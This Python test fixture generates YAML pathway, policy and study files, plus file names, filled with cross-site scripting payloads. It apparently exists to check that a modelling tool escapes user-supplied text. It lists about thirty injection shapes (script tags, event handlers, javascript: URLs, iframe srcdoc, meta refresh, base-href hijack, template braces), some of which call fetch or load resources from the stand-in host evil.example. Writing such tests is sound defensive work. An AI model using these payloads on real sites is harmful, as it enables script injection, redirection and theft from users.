"""Words that try to become markup, script or an address, put in every place where a definition or study has words."""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path

DOES = ("window.hacked=1", "alert(1)", "fetch('http://evil.example/x')", "document.title='hacked'")
SHAPES = (
    "<script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    '<img src=x onerror="{0}">',
    "<img/src=x/onerror={0}>",
    '" onmouseover="{0}" x="',
    "' onfocus='{0}' autofocus x='",
    '" autofocus onfocus={0} x="',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "</svg><script>{0}</script>",
    "]]><script>{0}</script>",
    "--><script>{0}</script>",
    "javascript:{0}",
    '<a href="javascript:{0}">x</a>',
    "data:text/html,<script>{0}</script>",
    '<iframe srcdoc="<script>{0}</script>">',
    '<iframe src="javascript:{0}">',
    '<object data="javascript:{0}">',
    "<style>@import 'http://evil.example/x';</style>{0}",
    "<link rel=stylesheet href=http://evil.example/x>{0}",
    "<base href=http://evil.example/>{0}",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">{0}',
    "{{{{ {0} }}}}",
    "{{% raw %}}<script>{0}</script>",
    "<form action=http://evil.example/><button autofocus>{0}</button></form>",
    '<div hx-get="/help" hx-trigger=load>{0}</div>',
    "<details open ontoggle={0}>",
)
PAYLOADS = tuple(shape.format(does) for shape, does in product(SHAPES, DOES))

PATHWAY = """\
pathway: {id}
title: {x}
version: {x}
status: proposed
note: {x}
sources: [{x}, {x}]
lanes:
  desk: {{title: {x}, note: {x}, source: {x}}}
  team: {x}
attributes:
  sector: {{title: {x}, values: [a, b], from: arrival, source: {x}, note: {x}}}
  need: {{title: {x}, values: [small, large]}}
start: call
states:
  call: {{lane: desk, title: {x}, note: {x}, finds: need, target: {{within: 2 days, source: {x}, hardness: ASSUMPTION}},
         source: {x}, hardness: ASSUMPTION, then: {{then: sort, title: {x}}}}}
  sort:
    kind: decision
    lane: desk
    title: {x}
    choose:
      - {{when: {{need: large}}, then: visit, title: {x}}}
      - {{otherwise: closed, title: {x}}}
  visit: {{lane: team, title: {x}, target: none, source: {x}, then: closed}}
  closed: {{kind: end, lane: desk, title: {x}, outcome: helped}}
interrupts:
  left: {{during: [visit], title: {x}, note: {x}, source: {x}, then: closed}}
departures:
  - {{rule: R-{id}, reason: {x}, source: {x}}}
"""
POLICY = """\
policy: rules_{id}
title: {x}
note: {x}
applies_to: [{id}]
rules:
  - {{id: R-{id}, says: {x}, note: {x}, kind: always_through, state: visit, hardness: ASSUMPTION, source: {x}}}
  - {{id: {x}, says: {x}, kind: can_always_end, hardness: ASSUMPTION, source: {x}}}
"""
STUDY = """\
study: s-{id}
title: {x}
question: {x}
note: {x}
pathways: {id}
clock: {{starts: 2024-01-01, warm_up: 2 weeks, length: 8 weeks}}
replications: 4
seed: 7
arrivals:
  {id}: {{title: {x}, rate: 200 per year, attributes: {{sector: {{a: 1}}}}, source: {x}, hardness: ASSUMPTION}}
teams:
  team: {{title: {x}, staff: 1, note: {x}, source: {x}, hardness: ASSUMPTION}}
no_time: [{id}.call]
service_times:
  {id}.visit: {{team: team, fixed: 6 hours, note: {x}, source: {x}, hardness: ASSUMPTION}}
findings:
  {id}.call: {{need: {{small: 50%, large: 50%}}, source: {x}, hardness: ASSUMPTION}}
interrupts:
  {id}.left: {{rate: 1 per year, hardness: ASSUMPTION}}
scenarios:
  two: {{teams.team.staff: 2}}
"""


def hostile_workspace(folder: Path, payloads: tuple[str, ...]) -> Path:
    """A pathway, a policy and a study for each payload, filled with it."""
    (folder / "definitions" / "policies").mkdir(parents=True)
    (folder / "simulations").mkdir()
    name = json.dumps("<script>window.hacked=1</script>")
    (folder / "pyproject.toml").write_text(f"[tool.pathways]\nname = {name}\n")
    for number, payload in enumerate(payloads):
        words, id_ = json.dumps(payload), f"p{number}"
        for path, text in (
            (f"definitions/{id_}.yaml", PATHWAY),
            (f"definitions/policies/rules_{id_}.yaml", POLICY),
            (f"simulations/s-{id_}.yaml", STUDY),
        ):
            (folder / path).write_text(text.format(x=words, id=id_))
    return folder


def hostile_files(folder: Path, payloads: tuple[str, ...]) -> list[str]:
    """Files of faulty pathways and studies whose names try the same: the names without their endings."""
    names = [payload.replace("/", "\u2215") for payload in payloads]
    for name in names:
        (folder / "definitions" / f"{name}.yaml").write_text("pathway: [\n")
        (folder / "simulations" / f"{name}.yaml").write_text("study: [\n")
    return names
